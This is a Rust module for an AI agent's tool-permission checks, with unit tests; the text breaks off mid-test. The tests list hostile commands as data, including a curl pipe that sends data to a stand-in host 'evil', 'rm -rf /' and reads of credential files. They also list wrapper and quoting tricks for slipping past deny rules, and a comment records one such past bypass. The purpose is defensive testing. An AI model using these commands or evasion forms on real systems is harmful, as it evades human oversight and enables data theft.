//! Decisions on tool calls: allow, ask or deny per tool, per command prefix,
//! and whose rule it was. Pure: the same rules and call give the same answer.
//!
//! The rules come from policy ([`Rules::from_policy`]); a permission [`Mode`]
//! applies on top of them ([`decide_in_mode`]), and so do what the
//! invocation granted (`--grant`) and what a person approved for the session
//! ([`Rules::allow_for_session`]). A deny rule always wins.
//!
//! Tools of MCP servers (`mcp__SERVER__TOOL`) are decided by the server's
//! rules from policy (`[mcp.servers.SERVER]` `tools` and `default`), then by
//! whether the server annotated the tool read-only; see [`decide_in_mode`].

use std::collections::BTreeSet;
use std::path::{Component, Path, PathBuf};

use airlock_policy::{Permission, Policy};
use airlock_tools::{PathDecision, PathPolicy};
use shell::{Part, Word};

mod mcp;
mod shell;
pub use airlock_policy::Mode;
pub use mcp::{McpServerRules, split_mcp_name};
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// What a rule says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Decision {
    /// Run it.
    Allow,
    /// Ask the person (headless: deny unless granted).
    Ask,
    /// Do not run it.
    Deny,
}

impl Decision {
    /// As recorded in the audit log.
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Allow => "allow",
            Decision::Ask => "ask",
            Decision::Deny => "deny",
        }
    }
}

impl From<Permission> for Decision {
    fn from(permission: Permission) -> Decision {
        match permission {
            Permission::Allow => Decision::Allow,
            Permission::Ask => Decision::Ask,
            Permission::Deny => Decision::Deny,
        }
    }
}

/// Something a person approved for the rest of the session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Grant {
    /// A tool, such as `edit_file`; `run_command` covers every command that
    /// can be parsed.
    Tool(String),
    /// A command prefix on whole words, such as `cargo test`.
    Prefix(String),
    /// This command line and no other.
    Exact(String),
}

impl Grant {
    /// As it appears in a decision's source, after `approved:session:`.
    pub fn label(&self) -> String {
        match self {
            Grant::Tool(name) | Grant::Prefix(name) => name.clone(),
            Grant::Exact(command) => format!("exact:{command}"),
        }
    }
}

/// What a rule in [`Rules::in_force`] is about.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Subject {
    /// Tools without a rule.
    DefaultTool,
    /// A tool.
    Tool(String),
    /// Commands no prefix matches.
    DefaultCommand,
    /// A command prefix.
    Command(String),
    /// Granted by the invocation (`--grant`): a tool or a command prefix.
    Granted(String),
    /// Approved by a person for this session.
    Session(Grant),
    /// The `default` of an MCP server's tools (when policy sets none: tools
    /// annotated read-only allow, others ask).
    McpDefault(String),
    /// A rule for one tool of an MCP server.
    McpTool {
        /// The server's name.
        server: String,
        /// The tool, as in `mcp__SERVER__TOOL`.
        tool: String,
    },
}

/// One rule in force and where it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleInForce {
    /// What it is about.
    pub subject: Subject,
    /// What it says; grants and approvals turn an ask into allow.
    pub decision: Decision,
    /// `built-in default`, `managed policy /etc/airlock/policy.toml:4:1`,
    /// `command line (--grant)`, `approved for this session`.
    pub source: String,
}

/// The rules of a session.
#[derive(Debug, Clone)]
pub struct Rules {
    /// Per tool name; tools not listed are [`Rules::default_tool`].
    pub tools: Vec<(String, Decision)>,
    /// Per command prefix for `run_command`, matched on whole words; the longest matching prefix wins.
    pub commands: Vec<(String, Decision)>,
    /// For tools not listed.
    pub default_tool: Decision,
    /// For commands no prefix matches.
    pub default_command: Decision,
    /// No person to ask: `Ask` becomes `Deny` unless the invocation granted the tool or prefix.
    pub headless: bool,
    /// Tool names or command prefixes the invocation granted (they turn `Ask` into `Allow`).
    pub granted: Vec<String>,
    /// What a person approved for this session (it turns `Ask` into `Allow`).
    pub session: Vec<Grant>,
    /// Where the rules above came from, for [`Rules::in_force`]; a rule
    /// without an entry is a built-in default.
    pub origins: Vec<(Subject, String)>,
    /// The MCP servers that may start, each with its tool rules; a tool of
    /// any other server is denied (`mcp:unknown-server`).
    pub mcp: Vec<McpServerRules>,
    /// Fully qualified names (`mcp__SERVER__TOOL`) of the MCP tools their
    /// servers annotated read-only, learnt when the servers start.
    pub mcp_read_only: BTreeSet<String>,
}

impl Default for Rules {
    /// The built-in policy layer: reading is allowed, writing and commands
    /// are asked, `git push` and network tools are denied.
    fn default() -> Rules {
        let mut rules = Rules::from_tool_rules(&airlock_policy::ToolRules::defaults());
        rules.origins.clear();
        rules
    }
}

const BUILT_IN: &str = "built-in default";

impl Rules {
    /// The rules in force under `policy` (every layer applied), headless
    /// until the caller says a person is present.
    pub fn from_policy(policy: &Policy) -> Rules {
        let mut rules = Rules::from_tool_rules(&policy.rules);
        for (name, server) in policy.mcp_servers() {
            let server_rules = McpServerRules::from_server(server);
            if let Some(default) = &server.default {
                rules.origins.push((Subject::McpDefault(name.to_owned()), default.origin.to_string()));
            }
            for rule in &server.tools {
                let subject = Subject::McpTool { server: name.to_owned(), tool: rule.pattern.clone() };
                rules.origins.push((subject, rule.origin.to_string()));
            }
            rules.mcp.push(server_rules);
        }
        rules
    }

    /// What the MCP servers said at start: the fully qualified names
    /// (`mcp__SERVER__TOOL`) of the tools annotated read-only. Replaces what
    /// was set before. Only these may be allowed without a rule, and only
    /// these run in `plan` mode.
    pub fn set_mcp_read_only(&mut self, names: impl IntoIterator<Item = String>) {
        self.mcp_read_only = names.into_iter().collect();
    }

    fn from_tool_rules(rules: &airlock_policy::ToolRules) -> Rules {
        let list = |list: &[airlock_policy::Rule]| -> Vec<(String, Decision)> {
            list.iter().map(|r| (r.pattern.clone(), r.permission.into())).collect()
        };
        let mut origins = vec![
            (Subject::DefaultTool, rules.default_tool.origin.to_string()),
            (Subject::DefaultCommand, rules.default_command.origin.to_string()),
        ];
        origins.extend(rules.tools.iter().map(|r| (Subject::Tool(r.pattern.clone()), r.origin.to_string())));
        origins.extend(rules.commands.iter().map(|r| (Subject::Command(r.pattern.clone()), r.origin.to_string())));
        Rules {
            tools: list(&rules.tools),
            commands: list(&rules.commands),
            default_tool: rules.default_tool.permission.into(),
            default_command: rules.default_command.permission.into(),
            headless: true,
            granted: Vec::new(),
            session: Vec::new(),
            origins,
            mcp: Vec::new(),
            mcp_read_only: BTreeSet::new(),
        }
    }

    /// "Allow for this session": later calls that `what` covers and that
    /// the rules would ask about are allowed, with the source
    /// `approved:session:LABEL`. Deny rules still win, a compound command
    /// needs every part covered, and what cannot be parsed is never covered.
    pub fn allow_for_session(&mut self, what: Grant) {
        let what = match what {
            Grant::Prefix(prefix) => Grant::Prefix(prefix.split_whitespace().collect::<Vec<_>>().join(" ")),
            Grant::Exact(command) => Grant::Exact(command.trim().to_owned()),
            tool @ Grant::Tool(_) => tool,
        };
        let empty = match &what {
            Grant::Tool(s) | Grant::Prefix(s) | Grant::Exact(s) => s.is_empty(),
        };
        if !empty && !self.session.contains(&what) {
            self.session.push(what);
        }
    }

    /// Every rule in force with where it came from, for `/permissions`: the
    /// tool default and rules, the command default and rules, each MCP
    /// server's default and tool rules, then grants and approvals.
    pub fn in_force(&self) -> Vec<RuleInForce> {
        let origin = |subject: &Subject| {
            self.origins.iter().find(|(s, _)| s == subject).map_or_else(|| BUILT_IN.to_owned(), |(_, o)| o.clone())
        };
        let mut out = Vec::new();
        let line = |subject: Subject, decision: Decision| {
            let source = origin(&subject);
            RuleInForce { subject, decision, source }
        };
        out.push(line(Subject::DefaultTool, self.default_tool));
        out.extend(self.tools.iter().map(|(tool, d)| line(Subject::Tool(tool.clone()), *d)));
        out.push(line(Subject::DefaultCommand, self.default_command));
        out.extend(self.commands.iter().map(|(prefix, d)| line(Subject::Command(prefix.clone()), *d)));
        for server in &self.mcp {
            let subject = Subject::McpDefault(server.server.clone());
            out.push(match server.default {
                Some(d) => line(subject, d),
                None => RuleInForce { subject, decision: Decision::Ask, source: mcp::IMPLICIT_DEFAULT.to_owned() },
            });
            for (tool, d) in &server.tools {
                out.push(line(Subject::McpTool { server: server.server.clone(), tool: tool.clone() }, *d));
            }
        }
        for granted in &self.granted {
            out.push(RuleInForce {
                subject: Subject::Granted(granted.clone()),
                decision: Decision::Allow,
                source: "command line (--grant)".to_owned(),
            });
        }
        for grant in &self.session {
            out.push(RuleInForce {
                subject: Subject::Session(grant.clone()),
                decision: Decision::Allow,
                source: "approved for this session".to_owned(),
            });
        }
        out
    }
}

/// What an approval panel can offer to allow for the rest of the session,
/// narrowest first: for a command, this exact line, then the prefix of each
/// program it runs (the program and, when the next word looks like a
/// subcommand such as `test` in `cargo test -p x`, that word too); for any
/// MCP tool, the tool then every tool of its server (`mcp__SERVER__*`); for
/// any other tool, the tool. Empty for a command that cannot be parsed or runs a
/// program only known when the shell runs, since no approval covers those.
pub fn session_grants(tool: &str, arguments: &Value) -> Vec<Grant> {
    if let Some((server, _)) = split_mcp_name(tool) {
        return vec![Grant::Tool(tool.to_owned()), Grant::Tool(format!("mcp__{server}__*"))];
    }
    if tool != "run_command" {
        return vec![Grant::Tool(tool.to_owned())];
    }
    let line = arguments.get("command").and_then(Value::as_str).unwrap_or_default().trim();
    let Ok(parts) = shell::parts(line) else {
        return Vec::new();
    };
    if line.is_empty() || parts.iter().any(|p| matches!(p, Part::Unknown(_))) {
        return Vec::new();
    }
    let mut grants = vec![Grant::Exact(line.to_owned())];
    for part in &parts {
        let Part::Run(words) = part else { continue };
        let Some(program) = words.first().filter(|w| w.literal) else { continue };
        let subcommand = words.get(1).filter(|w| {
            w.literal
                && w.text.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
                && w.text.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ':'))
        });
        let prefix = match subcommand {
            Some(sub) => format!("{} {}", program.text, sub.text),
            None => program.text.clone(),
        };
        let grant = Grant::Prefix(prefix);
        if !grants.contains(&grant) {
            grants.push(grant);
        }
    }
    grants
}

/// The modes a person may choose under `policy` (`[agent] modes`), in
/// [`Mode::ALL`] order; never empty.
pub fn allowed_modes(policy: &Policy) -> Vec<Mode> {
    policy.agent.modes.value.clone()
}

/// The mode a session starts in under `policy` (`[agent] default_mode`);
/// always one of [`allowed_modes`].
pub fn default_mode(policy: &Policy) -> Mode {
    policy.agent.default_mode.value
}

/// A decision and what made it, for the audit log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decided {
    /// Allow or deny (an `Ask` is resolved before this).
    pub decision: Decision,
    /// `rule:tool:NAME`, `rule:command:PREFIX`, `default:tool`, `default:command`,
    /// `granted:...`, `approved:session:...`, `mode:headless (...)`,
    /// `mode:plan (...)`, `mode:edits (...)` or `mode:auto (...)`.
    pub source: String,
}

/// Tools that only read: the only ones `plan` mode runs.
const READ_ONLY_TOOLS: &[&str] = &["read_file", "list_dir", "glob", "grep", "todo"];

/// Tools that change files in the workspace: `edits` mode runs them without asking.
const EDIT_TOOLS: &[&str] = &["edit_file", "write_file"];

/// Decides a tool call in [`Mode::Ask`]. An `Ask` in headless mode is denied
/// unless granted; with a person present it stays `Ask` for the caller to resolve.
///
/// A command is decided on what it runs ([`shell::parts`]): every simple
/// command of it, wrappers (`env`, `timeout 5`, `sh -c`) and folders
/// (`/usr/bin/wget`) stripped, git's subcommand after its options. It is only
/// as allowed as its most restricted part; a command line that cannot be
/// parsed, or a program only known when the shell runs (`$CMD`), is asked
/// about and never granted.
pub fn decide(rules: &Rules, tool: &str, arguments: &Value) -> Decided {
    decide_in_mode(rules, Mode::Ask, tool, arguments)
}

/// Decides a tool call under a permission mode, in this order:
///
/// 1. what the rules deny is denied, whatever the mode;
/// 2. `plan` denies every tool but the read-only ones (`mode:plan (...)`);
/// 3. what the rules allow is allowed;
/// 4. an ask covered by `--grant` or a session approval is allowed;
/// 5. `edits` allows the edit tools, `auto` allows the rest, except what
///    cannot be known (`shell:undecidable`), which stays an ask;
/// 6. headless, an ask is denied; otherwise it stays `Ask`, for the caller
///    to put to a person.
///
/// An MCP tool (`mcp__SERVER__TOOL`) is decided by its server's rules
/// instead: the server's rule for the tool, else its `default`, else allow
/// when the server annotated the tool read-only and ask otherwise; a
/// `[tools]` rule for the qualified name overrides that only when it is
/// stricter. A server policy does not list (or does not let start) is
/// denied. `plan` runs only read-only MCP tools, `edits` frees none, and
/// `--grant` takes the qualified name or `mcp__SERVER__*`.
pub fn decide_in_mode(rules: &Rules, mode: Mode, tool: &str, arguments: &Value) -> Decided {
    if tool.starts_with(mcp::PREFIX) {
        return mcp::decide(rules, mode, tool);
    }
    let (decision, source) = match rules.tools.iter().find(|(t, _)| t == tool) {
        Some((_, d)) => (*d, format!("rule:tool:{tool}")),
        None => (rules.default_tool, "default:tool".to_string()),
    };
    let command = (tool == "run_command").then(|| arguments.get("command").and_then(Value::as_str).unwrap_or_default());
    // `None` for a command line that cannot be parsed.
    let mut parts = None;
    let (decision, source) = match command {
        Some(line) if decision != Decision::Deny => match shell::parts(line) {
            Ok(p) => {
                let decided = by_command_rules(rules, decision, source, &p);
                parts = Some(p);
                decided
            }
            Err(e) => (Decision::Ask, format!("shell:undecidable ({e})")),
        },
        _ => (decision, source),
    };
    let decided = |decision, source| Decided { decision, source };
    if decision == Decision::Deny {
        return decided(Decision::Deny, source);
    }
    if mode == Mode::Plan && !READ_ONLY_TOOLS.contains(&tool) {
        let says = decision.as_str();
        return decided(Decision::Deny, format!("mode:plan (read-only; {source} says {says})"));
    }
    if decision == Decision::Allow {
        return decided(Decision::Allow, source);
    }
    let covered = match command {
        Some(line) => parts.as_deref().and_then(|p| granted_command(rules, line, p)),
        None => granted_tool(rules, tool),
    };
    if let Some(grants) = covered {
        return decided(Decision::Allow, grants);
    }
    let undecidable = source.starts_with("shell:");
    match mode {
        Mode::Edits if EDIT_TOOLS.contains(&tool) => {
            return decided(Decision::Allow, format!("mode:edits ({source} says ask)"));
        }
        Mode::Auto if !undecidable => return decided(Decision::Allow, format!("mode:auto ({source} says ask)")),
        _ => {}
    }
    if rules.headless {
        return decided(Decision::Deny, format!("mode:headless ({source} says ask)"));
    }
    decided(Decision::Ask, source)
}

/// `run_command` with the tool's own decision (`Allow` or `Ask`) and its
/// source, then the command rules over each part.
fn by_command_rules(rules: &Rules, tool_decision: Decision, tool_source: String, parts: &[Part]) -> (Decision, String) {
    let compound = parts.iter().filter(|p| !matches!(p, Part::Wrapper(_))).count() > 1;
    let mut decision = tool_decision;
    let mut source = tool_source;
    let mut worst: Option<(Decision, String)> = None;
    for part in parts {
        let (d, why) = match part {
            Part::Run(words) => match command_rule(rules, words) {
                Some((prefix, d)) => (d, format!("rule:command:{prefix}")),
                None => (rules.default_command, "default:command".to_string()),
            },
            // A deny rule may name the wrapper itself (`sudo`); nothing else does.
            Part::Wrapper(words) => match command_rule(rules, words) {
                Some((prefix, Decision::Deny)) => (Decision::Deny, format!("rule:command:{prefix}")),
                _ => continue,
            },
            Part::Unknown(why) => (Decision::Ask, format!("shell:undecidable ({why})")),
        };
        if worst.as_ref().is_none_or(|(w, _)| rank(d) > rank(*w)) {
            worst = Some((d, why));
        }
    }
    let (worst, why) = worst.unwrap_or((rules.default_command, "default:command".to_string()));
    let why = if compound { format!("{why} (in a compound command)") } else { why };
    // The tool's rule (not deny, here) is the default for commands; the
    // command's rules decide: they tighten an allowing tool rule, and an
    // allow rule that covers every part of the command ("allow for this
    // project", a user's `[commands]`) frees a command the tool rule would
    // ask about. A project cannot add an allow rule (the layers refuse it).
    // What cannot be known is named even where the tool rule already asks.
    if worst != Decision::Ask || decision == Decision::Allow || why.starts_with("shell:") {
        decision = worst;
        source = why;
    }
    (decision, source)
}

/// `granted:TOOL` or `approved:session:TOOL` when the invocation or a person
/// granted a tool that is not `run_command`.
fn granted_tool(rules: &Rules, tool: &str) -> Option<String> {
    if rules.granted.iter().any(|g| g == tool) {
        return Some(format!("granted:{tool}"));
    }
    rules.session.iter().any(|g| *g == Grant::Tool(tool.to_owned())).then(|| format!("approved:session:{tool}"))
}

/// The grants that cover every part of a command (`--grant "cargo test"`
/// covers `cargo test -p x`, and `cargo test && cargo fmt` only if
/// `cargo fmt` is granted too; `--grant run_command` covers any command that
/// can be parsed), as `granted:A+B`, `approved:session:A+B`, or both joined
/// with `+`; `None` if a part is not covered or cannot be known. A session
/// approval of the exact line covers it whole.
fn granted_command(rules: &Rules, line: &str, parts: &[Part]) -> Option<String> {
    if parts.iter().any(|p| matches!(p, Part::Unknown(_))) {
        return None;
    }
    if rules.granted.iter().any(|g| g == "run_command") {
        return Some("granted:run_command".into());
    }
    let session_tool = Grant::Tool("run_command".into());
    if rules.session.contains(&session_tool) {
        return Some("approved:session:run_command".into());
    }
    if let Some(exact) = rules.session.iter().find(|g| matches!(g, Grant::Exact(e) if e == line.trim())) {
        return Some(format!("approved:session:{}", exact.label()));
    }
    let mut by_invocation: Vec<&str> = Vec::new();
    let mut by_person: Vec<String> = Vec::new();
    for part in parts {
        let Part::Run(words) = part else { continue };
        if let Some(grant) = rules.granted.iter().find(|g| prefix_matches(g, words, false)) {
            if !by_invocation.contains(&grant.as_str()) {
                by_invocation.push(grant);
            }
            continue;
        }
        let approval = rules.session.iter().find(|g| match g {
            Grant::Prefix(prefix) => prefix_matches(prefix, words, false),
            Grant::Exact(exact) => exact_matches(exact, words),
            Grant::Tool(_) => false,
        })?;
        let label = approval.label();
        if !by_person.contains(&label) {
            by_person.push(label);
        }
    }
    let mut sources = Vec::new();
    if !by_invocation.is_empty() {
        sources.push(format!("granted:{}", by_invocation.join("+")));
    }
    if !by_person.is_empty() {
        sources.push(format!("approved:session:{}", by_person.join("+")));
    }
    if sources.is_empty() { None } else { Some(sources.join("+")) }
}

/// Whether a simple command's words are exactly `exact`'s, all literal.
fn exact_matches(exact: &str, words: &[Word]) -> bool {
    let e: Vec<&str> = exact.split_whitespace().collect();
    e.len() == words.len() && prefix_matches(exact, words, false)
}

/// The programs a command line runs, each as the words the shell would pass
/// (quotes removed, expansions as written): what a person approving the
/// command is shown beside the line itself.
pub fn programs(command: &str) -> Result<Vec<Vec<String>>, String> {
    shell::argvs(command).map_err(|e| e.to_string())
}

/// Tools that take a `path`, and whether it names a folder.
const PATH_TOOLS: &[(&str, bool)] = &[
    ("read_file", false),
    ("write_file", false),
    ("edit_file", false),
    ("list_dir", true),
    ("grep", true),
    ("glob", true),
];

/// The per-path decision on a file tool's call: outside the workspace, or
/// under the never-read patterns, is denied (the tools refuse too; this puts
/// it on the record as a decision). `None` when the path is fine or absent.
pub fn decide_path(paths: &PathPolicy, workspace: &Path, tool: &str, arguments: &Value) -> Option<Decided> {
    let is_dir = PATH_TOOLS.iter().find(|(t, _)| *t == tool)?.1;
    let raw = arguments.get("path").and_then(Value::as_str)?;
    let deny = |source: String| Some(Decided { decision: Decision::Deny, source });
    let path = Path::new(raw);
    let relative = if path.is_absolute() {
        match path.strip_prefix(workspace) {
            Ok(r) => r.to_path_buf(),
            Err(_) => return deny(format!("paths:outside-workspace ({raw})")),
        }
    } else {
        path.to_path_buf()
    };
    let mut depth: i64 = 0;
    let mut clean = PathBuf::new();
    for part in relative.components() {
        match part {
            Component::ParentDir => {
                depth -= 1;
                clean.pop();
            }
            Component::Normal(p) => {
                depth += 1;
                clean.push(p);
            }
            _ => {}
        }
        if depth < 0 {
            return deny(format!("paths:outside-workspace ({raw})"));
        }
    }
    match paths.check(&clean, is_dir) {
        PathDecision::Denied { pattern } => deny(format!("paths:never-read ({pattern})")),
        PathDecision::Allowed => None,
    }
}

fn rank(d: Decision) -> u8 {
    match d {
        Decision::Allow => 0,
        Decision::Ask => 1,
        Decision::Deny => 2,
    }
}

/// The longest command prefix (whole words) that matches. A word only known
/// when the shell expands it (`git $SUB`) matches any word of a deny rule and
/// none of the others.
fn command_rule<'a>(rules: &'a Rules, words: &[Word]) -> Option<(&'a str, Decision)> {
    rules
        .commands
        .iter()
        .filter(|(prefix, d)| prefix_matches(prefix, words, *d == Decision::Deny))
        .max_by_key(|(prefix, d)| (prefix.split_whitespace().count(), rank(*d)))
        .map(|(p, d)| (p.as_str(), *d))
}

/// Whether `prefix` (words; its first a program name, folders ignored)
/// starts `words`; `wildcard`: a word that is not literal matches.
fn prefix_matches(prefix: &str, words: &[Word], wildcard: bool) -> bool {
    let p: Vec<&str> = prefix.split_whitespace().collect();
    !p.is_empty()
        && words.len() >= p.len()
        && p.iter().zip(words).enumerate().all(|(i, (p, w))| {
            let p = if i == 0 { shell::program_name(p) } else { p };
            if w.literal { w.text == p } else { wildcard }
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_grants_cover_every_part_or_nothing() {
        let rules = Rules { granted: vec!["cargo test".into(), "python3".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "cargo test -p x").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "python3 t.py && cargo test").source, "granted:python3+cargo test");
        assert_eq!(cmd(&rules, "python3 t.py; rm -rf /").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo testy").decision, Decision::Deny, "whole words");
        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").decision, Decision::Deny, "a denied part stays denied");
        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").source, "rule:command:curl (in a compound command)");
    }

    #[test]
    fn paths_outside_the_workspace_or_never_read_are_denied() {
        let ws = Path::new("/w");
        let paths = PathPolicy::defaults();
        let d = |tool: &str, path: &str| decide_path(&paths, ws, tool, &serde_json::json!({ "path": path }));
        assert_eq!(d("read_file", "src/main.rs"), None);
        assert_eq!(d("read_file", "/w/src/main.rs"), None);
        assert_eq!(d("read_file", "a/../b.rs"), None);
        assert!(d("read_file", ".env").unwrap().source.starts_with("paths:never-read ("));
        assert_eq!(d("read_file", "config/.env").unwrap().decision, Decision::Deny);
        assert!(d("read_file", "../../etc/passwd").unwrap().source.starts_with("paths:outside-workspace"));
        assert!(d("write_file", "/home/u/.ssh/id_rsa").unwrap().source.starts_with("paths:outside-workspace"));
        assert!(d("list_dir", "a/../..").is_some());
        assert_eq!(d("run_command", "../x"), None, "not a file tool");
        assert_eq!(decide_path(&paths, ws, "read_file", &serde_json::json!({})), None);
    }

    fn cmd(rules: &Rules, c: &str) -> Decided {
        decide(rules, "run_command", &serde_json::json!({ "command": c }))
    }

    #[test]
    fn tools_and_commands_are_decided_with_their_source() {
        let mut rules = Rules { headless: false, ..Rules::default() };
        rules.commands.push(("cargo test".into(), Decision::Allow));
        assert_eq!(
            decide(&rules, "read_file", &Value::Null),
            Decided { decision: Decision::Allow, source: "rule:tool:read_file".into() }
        );
        assert_eq!(decide(&rules, "format_disk", &Value::Null).source, "default:tool");
        assert_eq!(decide(&rules, "format_disk", &Value::Null).decision, Decision::Deny);
        // The tool rule says ask: a command's allow rule frees it (a user's
        // rule, or "allow for this project"; projects cannot add one), and a
        // command no rule names still asks.
        assert_eq!(
            cmd(&rules, "cargo test -p x"),
            Decided { decision: Decision::Allow, source: "rule:command:cargo test".into() }
        );
        assert_eq!(cmd(&rules, "cargo build").decision, Decision::Ask);
        assert_eq!(cmd(&rules, "cargo test && make").decision, Decision::Ask, "every part must be allowed");
        assert_eq!(
            cmd(&rules, "git push origin main"),
            Decided { decision: Decision::Deny, source: "rule:command:git push".into() }
        );
        assert_eq!(cmd(&rules, "git pushy").decision, Decision::Ask, "prefixes match whole words");
        rules.tools.retain(|(t, _)| t != "run_command");
        rules.tools.push(("run_command".into(), Decision::Allow));
        assert_eq!(
            cmd(&rules, "cargo test -p x"),
            Decided { decision: Decision::Allow, source: "rule:command:cargo test".into() }
        );
        assert_eq!(cmd(&rules, "ls").source, "default:command");
    }

    #[test]
    fn a_denied_command_cannot_hide_in_a_compound_one() {
        let mut rules = Rules::default();
        rules.tools.retain(|(t, _)| t != "run_command");
        rules.tools.push(("run_command".into(), Decision::Allow));
        rules.commands.push(("cargo test".into(), Decision::Allow));
        let mixed = cmd(&rules, "cargo test && rm -rf target");
        assert_eq!(mixed.decision, Decision::Deny, "rm has no rule: default ask, headless deny");
        assert!(mixed.source.contains("default:command (in a compound command)"), "{}", mixed.source);
        for c in [
            "cargo test && git push",
            "cargo test; curl http://x",
            "cargo test | ssh host",
            "cargo test $(curl x)",
            "cargo test\nwget x",
        ] {
            assert_eq!(cmd(&rules, c).decision, Decision::Deny, "{c}");
        }
    }

    /// Issue 14, class 13: `env curl`, `/usr/bin/wget` and `git -C . push`
    /// were decided on their first word, so `--grant run_command` ran them.
    #[test]
    fn deny_rules_see_through_wrappers_paths_and_git_options() {
        let rules = Rules { granted: vec!["run_command".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "cargo build").source, "granted:run_command");
        for (c, rule) in [
            ("env curl http://x", "curl"),
            ("env -i PATH=/bin curl http://x", "curl"),
            ("/usr/bin/wget http://x", "wget"),
            ("command wget x", "wget"),
            ("exec ssh host", "ssh"),
            ("nice -n 1 nohup timeout 5 scp a b:", "scp"),
            ("sudo -u root curl x", "curl"),
            ("echo http://x | xargs curl", "curl"),
            ("busybox wget x", "wget"),
            ("bash -c 'curl x'", "curl"),
            ("sh -c \"sh -c 'env curl x'\"", "curl"),
            ("eval curl x", "curl"),
            ("c\\url x", "curl"),
            ("'curl' x", "curl"),
            ("echo $(/bin/curl x)", "curl"),
            ("echo `wget x`", "wget"),
            ("find . -exec curl {} +", "curl"),
            ("git -C . push", "git push"),
            ("git -c x=y push", "git push"),
            ("git --git-dir=.git push origin", "git push"),
            ("git --no-pager --work-tree . push", "git push"),
            ("git $SUB origin", "git push"),
            ("/usr/lib/git-core/git-push origin", "git push"),
        ] {
            let d = cmd(&rules, c);
            assert_eq!(d.decision, Decision::Deny, "{c}: {}", d.source);
            assert!(d.source.starts_with(&format!("rule:command:{rule}")), "{c}: {}", d.source);
        }
        let sudo = Rules { commands: vec![("sudo".into(), Decision::Deny)], ..rules.clone() };
        assert_eq!(cmd(&sudo, "sudo ls").source, "rule:command:sudo", "a deny rule may name a wrapper");
    }

    #[test]
    fn what_cannot_be_known_is_asked_and_never_granted() {
        let rules = Rules { granted: vec!["run_command".into(), "cargo test".into()], ..Rules::default() };
        for c in
            ["$CMD x", "cur? x", "git -c alias.p=push p", "case x in a) curl x;; esac", "echo 'open", "f() { curl; }"]
        {
            let d = cmd(&rules, c);
            assert_eq!(d.decision, Decision::Deny, "{c}: {}", d.source);
            assert!(d.source.contains("shell:undecidable"), "{c}: {}", d.source);
        }
        let person = Rules { headless: false, ..rules.clone() };
        assert_eq!(cmd(&person, "$CMD x").decision, Decision::Ask, "a person may still say yes");
        assert_eq!(cmd(&person, "$CMD x; curl y").decision, Decision::Deny, "a deny rule still wins");
    }

    #[test]
    fn grants_see_through_wrappers_too() {
        let rules = Rules { granted: vec!["cargo test".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "timeout 60 cargo test -p x").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "RUST_LOG=debug cargo test 2>&1 | cargo test").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "sh -c 'cargo test && rm -rf /'").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo test $(rm -rf /)").decision, Decision::Deny, "substitutions are parts");
        assert_eq!(cmd(&rules, "cargo $T").decision, Decision::Deny, "an expanded word is not the granted one");
    }

    #[test]
    fn headless_ask_is_deny_unless_granted() {
        let mut rules = Rules::default();
        let d = decide(&rules, "write_file", &Value::Null);
        assert_eq!(d.decision, Decision::Deny);
        assert_eq!(d.source, "mode:headless (rule:tool:write_file says ask)");
        rules.granted.push("write_file".into());
        assert_eq!(
            decide(&rules, "write_file", &Value::Null),
            Decided { decision: Decision::Allow, source: "granted:write_file".into() }
        );
        rules.granted.push("cargo test".into());
        rules.commands.push(("cargo test".into(), Decision::Ask));
        assert_eq!(cmd(&rules, "cargo test").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "git push").decision, Decision::Deny);
    }

    fn person() -> Rules {
        Rules { headless: false, ..Rules::default() }
    }

    fn in_mode(rules: &Rules, mode: Mode, tool: &str) -> Decided {
        decide_in_mode(rules, mode, tool, &serde_json::json!({ "path": "src/lib.rs" }))
    }

    fn cmd_in(rules: &Rules, mode: Mode, c: &str) -> Decided {
        decide_in_mode(rules, mode, "run_command", &serde_json::json!({ "command": c }))
    }

    fn allow(source: &str) -> Decided {
        Decided { decision: Decision::Allow, source: source.into() }
    }

    fn deny(source: &str) -> Decided {
        Decided { decision: Decision::Deny, source: source.into() }
    }

    #[test]
    fn ask_mode_is_the_rules_unchanged() {
        let rules = person();
        for (tool, args) in [
            ("read_file", serde_json::json!({})),
            ("edit_file", serde_json::json!({})),
            ("format_disk", serde_json::json!({})),
            ("run_command", serde_json::json!({ "command": "cargo test && curl x" })),
            ("run_command", serde_json::json!({ "command": "$CMD" })),
        ] {
            assert_eq!(decide_in_mode(&rules, Mode::Ask, tool, &args), decide(&rules, tool, &args), "{tool}");
        }
        assert_eq!(
            in_mode(&rules, Mode::Ask, "edit_file"),
            Decided { decision: Decision::Ask, source: "rule:tool:edit_file".into() }
        );
    }

    #[test]
    fn plan_mode_refuses_edits_and_commands_naming_the_mode() {
        let mut rules = person();
        assert_eq!(
            in_mode(&rules, Mode::Plan, "edit_file"),
            deny("mode:plan (read-only; rule:tool:edit_file says ask)")
        );
        assert_eq!(in_mode(&rules, Mode::Plan, "write_file").decision, Decision::Deny);
        assert_eq!(cmd_in(&rules, Mode::Plan, "ls").source, "mode:plan (read-only; rule:tool:run_command says ask)");
        for tool in ["read_file", "list_dir", "glob", "grep", "todo"] {
            assert_eq!(in_mode(&rules, Mode::Plan, tool), allow(&format!("rule:tool:{tool}")));
        }
        // Neither an allow rule, a grant nor a session approval lifts it.
        rules.tools.retain(|(t, _)| t != "edit_file");
        rules.tools.push(("edit_file".into(), Decision::Allow));
        rules.granted.push("run_command".into());
        rules.allow_for_session(Grant::Tool("write_file".into()));
        assert_eq!(
